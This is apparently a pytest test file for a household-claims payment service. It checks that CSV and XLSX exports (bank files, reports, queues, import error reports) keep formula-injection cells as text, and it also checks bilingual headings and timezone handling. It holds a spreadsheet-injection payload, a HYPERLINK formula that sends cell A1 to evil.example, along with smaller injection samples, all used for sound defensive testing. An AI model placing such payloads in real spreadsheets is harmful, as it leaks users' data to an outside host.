"""Every CSV and XLSX the service writes keeps a hostile cell as text: a name such as
=HYPERLINK(...) never becomes a live formula, and a negative amount stays a number."""

from __future__ import annotations

import csv
import io
import math
import os
import re
from argparse import Namespace
from datetime import UTC, datetime

import openpyxl
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from sqlmodel import select

from claims.cli import _row_errors
from claims.models import Claim, EarlyWarning, Household, Region
from claims.settings import get_settings
from claims.web.i18n import code_label, translator
from policies import registry
from policies.tables import FileReport, RowError, csv_bytes, xlsx_bytes
from risk import scoring
from tests.claims.test_lifecycle import act, to_approval
from tests.claims.test_monitoring import pay
from tests.claims.test_web import browser  # noqa: F401  (the fixture)

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点此领取")'
STARTS = ["=", "+", "-", "@", "\t", "\r"]


def runs_as_formula(cell: str) -> bool:
    """What a spreadsheet does with a CSV cell, written out independently of the code: it
    computes a cell that begins with one of the formula characters unless it is a number."""
    if not cell or cell[0] not in "=+-@\t\r":
        return False
    if set(cell) <= set("0123456789.+-eE"):
        try:
            return not math.isfinite(float(cell))
        except ValueError:
            return True
    return True


def csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def xlsx_cells(data: bytes) -> list[list]:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    return [[c.value for c in row] for row in sheet.iter_rows()]


TEXT = st.text(st.characters(blacklist_categories=("Cs", "Cc"), whitelist_characters="\t\r\n"),
               max_size=12)


@settings(max_examples=int(os.environ.get("FANGPIN_TEST_EXPORT_CASES", "100")), deadline=None)
@given(st.lists(st.one_of(st.tuples(st.sampled_from(["", *STARTS]), TEXT).map("".join),
                          st.decimals(-10**6, 10**6, places=2).map(str)), max_size=8))
@example(["-²"])  # a superscript digit once passed for an amount in this test's own oracle
def test_no_generated_cell_runs_as_a_formula_and_each_reads_back_as_written(texts):
    """Generated texts and signed amounts (FANGPIN_TEST_EXPORT_CASES of them, 100 by
    default) against an oracle of what a spreadsheet computes."""
    cells = [c for (c,) in csv_cells(csv_bytes(["text"], [[t] for t in texts]))[1:]]
    assert not [c for c in cells if runs_as_formula(c)]
    # each cell is what was written, or it with an apostrophe where it began with = + - @ ...
    assert all(c == t or (c == "'" + t and t[:1] in STARTS)
               for c, t in zip(cells, texts, strict=True))
    # a signed amount in ASCII digits: str.isdigit() would take "-²" for one
    amounts = [t for t in texts if re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", t)]
    assert [c for c in cells if c in amounts] == amounts  # a signed amount stays a number
    plain = [t for t in texts if "\r" not in t]  # XML reads a CR back as a line feed
    assert [v or "" for (v,) in xlsx_cells(xlsx_bytes(["text"], [[t] for t in plain]))[1:]] \
        == plain


def test_a_negative_amount_stays_a_number_and_a_hostile_name_stays_text():
    from decimal import Decimal

    rows = [[HOSTILE, "-12.50", Decimal("-12.50")], ["-cmd", "+86", Decimal("3.00")]]
    written = csv_cells(csv_bytes(["name", "text", "amount"], rows))
    assert written[1] == ["'" + HOSTILE, "-12.50", "-12.50"]
    assert written[2] == ["'-cmd", "+86", "3.00"]
    book = xlsx_cells(xlsx_bytes(["name", "text", "amount"], rows))
    assert book[1] == [HOSTILE, "-12.50", -12.5] and book[2] == ["-cmd", "+86", 3.0]


def test_the_bank_file_keeps_a_hostile_account_holder_as_text(staff, client, session, claim):
    to_approval(staff, claim, session)
    act(staff["supervisor"], claim, "approve", {"amount": "7500.00"})
    batch = client.post("/api/payment-batches").json()
    # the payee is the head as the registry holds them when the file is made
    head = registry.head_of(session, claim.household_id)
    head.name = HOSTILE
    session.commit()
    path = f"/api/payment-batches/{batch['id']}/bank-file"
    rows = csv_cells(client.post(path, params={"format": "csv"}).content)
    assert rows[1][2] == "'" + HOSTILE and rows[1][5] == "7500.00"
    assert not [c for row in rows for c in row if runs_as_formula(c)]
    book = xlsx_cells(client.post(path, params={"format": "xlsx"}).content)
    assert book[1][2] == HOSTILE


def test_the_claims_report_queue_and_outcome_workbook_keep_hostile_names_as_text(
        staff, client, session, claim, county, browser):  # noqa: F811
    village = session.get(Region, session.get(Household, claim.household_id).village_id)
    township = session.get(Region, village.parent_id)
    village.name, township.name = "@SUM(1+1)", HOSTILE
    session.commit()
    report = client.get("/api/reports/claims", params={"by": "township", "format": "xlsx"})
    assert xlsx_cells(report.content)[1][0] == HOSTILE

    queue = browser("adjudicator").get("/claims?export=xlsx")
    assert "@SUM(1+1)" in xlsx_cells(queue.content)[1]

    pay(staff, client, session, claim)
    book = staff["clerk"].get("/api/reports/outcomes", params={
        "policy_year": claim.policy_year, "format": "xlsx"})
    assert HOSTILE in [row[1] for row in xlsx_cells(book.content)]


def test_an_import_error_report_keeps_a_hostile_value_as_text(tmp_path, capsys):
    report = FileReport(rows=1, errors=[RowError(2, "name", "=1+2", "too_long",
                                                 {"limit": 3})])
    path = tmp_path / "errors.csv"
    _row_errors(report, Namespace(show=5, report=str(path)))
    assert csv_cells(path.read_bytes())[1] == ["2", "name", "'=1+2",
                                               "is longer than 3 characters"]


def test_the_workspace_s_workbooks_read_in_the_reader_s_language(
        session, claim, browser):  # noqa: F811
    """The queue's and the warnings' workbooks, opened as a reader in English and in Chinese
    would: columns under their labels (an empty export's too), codes by their names, a risk
    warning's text and score as the reader reads them (the outcome report's:
    test_monitoring_web)."""
    session.add(EarlyWarning(household_id=claim.household_id, trigger=scoring.HIGH,
                             source="risk", score=0.8123456,
                             text=scoring.warning_text(scoring.HIGH, 0.8123456, 0.4, 0.5)))
    session.commit()
    chinese = re.compile(r"[\u3000-\u303f\u4e00-\u9fff\uff00-\uffef]")
    for language in ("en", "zh"):
        _ = translator(language)
        user = browser("clerk", language=language)
        queue = xlsx_cells(user.get("/claims?export=xlsx").content)
        assert queue[0] == [_(h) for h in ("Claim", "Household", "Village", "Trigger", "State",
                                          "Entitled", "Approved", "Paid", "Due", "Risk")]
        assert queue[1][3:5] == [code_label("Trigger", "illness", language),
                                 code_label("ClaimState", "opened", language)]
        warnings = xlsx_cells(user.get("/warnings?export=xlsx").content)
        # an export that selects nothing still names its columns, in the same words
        assert xlsx_cells(user.get("/claims?export=xlsx&state=withdrawn").content) == queue[:1]
        assert xlsx_cells(user.get("/warnings?export=xlsx&status=closed").content) == \
            warnings[:1]
        row = next(row for row in (dict(zip(warnings[0], line, strict=True))
                                   for line in warnings[1:]) if row[_("Source")] == _("risk score"))
        assert row[_("Risk")] == 0.81
        if language == "en":
            assert queue[1][3:5] == ["illness", "opened"]
            assert row["What raised it"] == ("Risk of falling back 0.81, at or above the warning "
                                             "threshold 0.50 (last time 0.40)")
            places = set(session.exec(select(Region.name)))  # Chinese in either language
            assert not [cell for line in queue + warnings for cell in line if isinstance(
                cell, str) and chinese.search(cell) and cell not in places]
        else:
            assert all(chinese.search(cell) for cell in queue[0] + queue[1][3:5])
            assert row["预警原因"] == "返贫风险 0.81，达到预警阈值 0.50（上次 0.40）"


@pytest.mark.parametrize("zone, opened, month", [
    ("Asia/Shanghai", "2026-11-30T17:00:00", "2026-12"),  # 01:00 on 1 December in the county
    ("Asia/Shanghai", "2026-11-30T15:59:00", "2026-11"),
    ("Asia/Kathmandu", "2026-11-30T18:15:00", "2026-12"),  # the zone's offset is 5:45
    ("Asia/Kathmandu", "2026-11-30T18:14:00", "2026-11"),
    ("America/Bogota", "2026-12-01T04:59:00", "2026-11"),  # west of UTC
])
def test_the_claims_report_counts_a_claim_in_the_county_s_month(
        client, session, claim, monkeypatch, zone, opened, month):
    """By the county's date in the zone of its settings, not the stored UTC one."""
    monkeypatch.setattr(get_settings(), "timezone", zone)
    session.get(Claim, claim.id).opened_at = datetime.fromisoformat(opened).replace(tzinfo=UTC)
    session.commit()
    params = {"by": "month"}
    assert [row["group"] for row in client.get("/api/reports/claims", params=params).json()[
        "rows"]] == [month]
    book = xlsx_cells(client.get("/api/reports/claims", params=params | {"format": "xlsx"}).content)
    assert [row[:2] for row in book[1:]] == [[month, 1]]


def test_the_api_s_claims_workbook_is_labelled_in_chinese_and_english(client, claim):
    """As the API's outcome workbook is: its caller has no language of the workspace (a
    token, no page), so the headings, the codes and the sheet say both; the JSON keeps the
    codes."""
    assert client.get("/api/reports/claims", params={"by": "state"}).json()["rows"][0][
        "group"] == "opened"
    answer = client.get("/api/reports/claims", params={"by": "state", "format": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(answer.content)).active
    assert sheet.title == "按状态统计理赔案件 claims by state"
    book = xlsx_cells(answer.content)
    assert book[0] == ["状态 state", "理赔案件 claims", "超期 overdue", "应赔金额 entitled",
                       "核定金额 approved", "已付金额 paid"]
    assert book[1][:3] == ["已立案 opened", 1, 0]
    book = xlsx_cells(client.get("/api/reports/claims", params={
        "by": "trigger", "format": "xlsx"}).content)
    assert (book[0][0], book[1][0]) == ("致贫原因 trigger", "因病 illness")
    book = xlsx_cells(client.get("/api/reports/claims", params={
        "by": "month", "format": "xlsx"}).content)
    assert book[0][0] == "月份 month"


def test_the_outcome_workbook_heads_the_group_s_name_not_a_person_s(
        staff, client, session, claim, browser):  # noqa: F811
    """姓名 is a person's name; the column holds a township's or a trigger's."""
    pay(staff, client, session, claim)
    for language, name in (("zh", "名称"), ("en", "Group name")):
        book = xlsx_cells(browser("clerk", language=language).get(
            "/monitoring/outcomes.xlsx").content)
        assert book[0][:2] == [translator(language)("Group"), name]
